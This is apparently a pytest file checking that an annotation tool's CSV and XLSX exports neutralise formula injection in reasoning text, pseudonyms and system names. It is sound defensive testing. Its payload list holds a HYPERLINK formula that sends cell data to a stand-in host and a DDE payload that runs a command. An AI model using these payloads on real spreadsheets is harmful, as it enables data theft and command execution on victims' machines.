"""A user-typed formula never reaches an export as a formula (issue 12, CSV injection).

Reasoning, reasons, pseudonyms and system names that start with ``=``, ``+``, ``-``, ``@``,
a tab or a carriage return come out of every CSV with a leading apostrophe and out of every
XLSX as text cells (no ``<f>`` element); numbers stay numbers; the table export still reads
back exactly.
"""

import csv
import io
import zipfile

import openpyxl
import pytest

from annotation.exporters import (
    _cell,
    export_judgments,
    export_table,
    judgment_columns,
    judgment_records,
    read_table,
)
from annotation.models import Medal, MedalRanking, PairwisePreference, System
from annotation.spreadsheets import csv_cell, csv_unescape
from metaeval import exports
from studio.studyadmin.progress import progress_csv, study_progress
from tests.builders.content import make_assignment, make_question, make_study
from tests.builders.users import make_user

PAYLOADS = [
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/"))


def test_the_one_rule():
    for payload in PAYLOADS:
        assert csv_cell(payload) == "'" + payload
        assert csv_unescape(csv_cell(payload)) == payload
    for plain in ("-0.5", "+3", "1e-3", "text", "", "a=b"):
        assert csv_cell(plain) == plain
    assert csv_cell("'quoted") == "''quoted" and csv_unescape("''quoted") == "'quoted"
    assert csv_cell(-2) == -2 and csv_cell(0.5) == 0.5 and csv_cell(None) is None


@pytest.fixture
def study(db):
    annotator = make_user("=evil", "annotator", annotator=True).annotator
    annotator.pseudonym = "@pseudonym"
    annotator.save()
    study = make_study("Formulas")
    question = make_question(study, n_reports=2, paragraphs=1)
    assignment = make_assignment(annotator, question, "medal_ranking")
    ranking = MedalRanking.objects.create(
        study=study, annotator=annotator, question=question, assignment=assignment,
        reasoning=PAYLOADS[0],
    )  # fmt: skip
    left, right = question.reports.order_by("pk")
    Medal.objects.create(ranking=ranking, report=left, medal="gold")
    PairwisePreference.objects.create(
        study=study, annotator=annotator, question=question, left=left, right=right,
        choice="left", reason=PAYLOADS[1],
    )  # fmt: skip
    system = System.objects.filter(study=study).order_by("pk").first()
    system.name = PAYLOADS[3]
    system.save()
    return study


def test_judgments_csv_escapes_every_payload(study):
    text = export_judgments(study, "csv")
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    assert "'" + PAYLOADS[0] in cells and "'" + PAYLOADS[1] in cells
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]


def test_judgments_xlsx_has_no_formula_and_keeps_the_text(study):
    data = export_judgments(study, "xlsx")
    assert "<f>" not in sheet_xml(data) and "<f " not in sheet_xml(data)
    values = {c.value for row in openpyxl.load_workbook(io.BytesIO(data)).active for c in row}
    assert PAYLOADS[0] in values and PAYLOADS[1] in values  # the exact text, nothing added


def test_judgments_xlsx_reads_back_cell_for_cell(study):
    """Every judgment's every column as ``export_judgments`` writes it (lists as JSON text;
    an empty text is no cell, read back as None), payloads included."""
    records = judgment_records(study)
    assert len(records) >= 2
    data = export_judgments(study, "xlsx", records=records)
    rows = [list(r) for r in openpyxl.load_workbook(io.BytesIO(data)).active.values]
    cols = judgment_columns()
    assert rows[0] == cols
    expected = [[None if _cell(r.get(c)) == "" else _cell(r.get(c)) for c in cols] for r in records]
    assert rows[1:] == expected
    assert PAYLOADS[0] in rows[1] + rows[2]


def test_table_export_escapes_and_reads_back_exactly(study):
    text = export_table("system", study, "csv")
    assert "'" + PAYLOADS[3] in text
    assert PAYLOADS[3] in [r["name"] for r in read_table("system", "csv", text)]


def test_progress_csv_escapes_the_pseudonym(study):
    text = progress_csv(study_progress(study))
    assert "'@pseudonym" in text and "\n@pseudonym" not in text


def test_report_tables_escape_system_names_and_keep_numbers():
    rows = [{"system": p, "human_win_rate": -0.25, "judge_win_rate": 0.5, "n": 3} for p in PAYLOADS]
    cols = exports.SYSTEM_COLUMNS
    parsed = list(csv.DictReader(io.StringIO(exports.rows_to_csv(rows, cols))))
    assert [r["system"] for r in parsed] == ["'" + p for p in PAYLOADS]
    assert parsed[0]["human_win_rate"] == "-0.25"
    data = exports.rows_to_xlsx(rows, cols)
    assert "<f>" not in sheet_xml(data)
    ws = openpyxl.load_workbook(io.BytesIO(data)).active
    written = [ws.cell(i + 2, 1).value for i in range(len(PAYLOADS))]
    assert written[:5] == PAYLOADS[:5]  # exact (XML reads a lone CR back as a line feed)
    assert ws.cell(2, 2).value == -0.25  # still a number


def test_report_xlsx_file_escapes_system_names(tmp_path):
    report = {"system": {"systems": [{"system": "=1+1", "human_win_rate": 0.5}]}, "iaa": {}}
    path = tmp_path / "r.xlsx"
    exports.write_xlsx(report, str(path))
    assert "<f>" not in sheet_xml(path.read_bytes())
